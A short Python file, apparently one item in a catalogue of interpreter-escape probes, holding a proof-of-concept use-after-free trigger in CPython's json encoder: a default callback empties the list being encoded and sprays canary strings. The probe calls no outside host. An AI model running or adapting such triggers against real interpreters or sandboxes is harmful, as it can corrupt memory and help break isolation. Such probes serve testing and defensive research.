"""Class: memory. Source: CPython issue 156859. Escape: the encoder's callback takes away what the encoder
written in C goes on using. Teeth: none, freed memory shows itself only by chance."""

import json


class First:
    pass


class Second:
    pass


def attack(model, tokenizer, address):
    walked = [First()]

    def default(thing):
        if type(thing) is First:
            walked.clear()
            kept.extend("canary-" + "5d1f" for _ in range(99))
            return Second()
        raise TypeError

    kept = []
    try:
        json.dumps(walked, default=default, check_circular=False)
    except TypeError as error:
        return [*error.args, *getattr(error, "__notes__", ())]
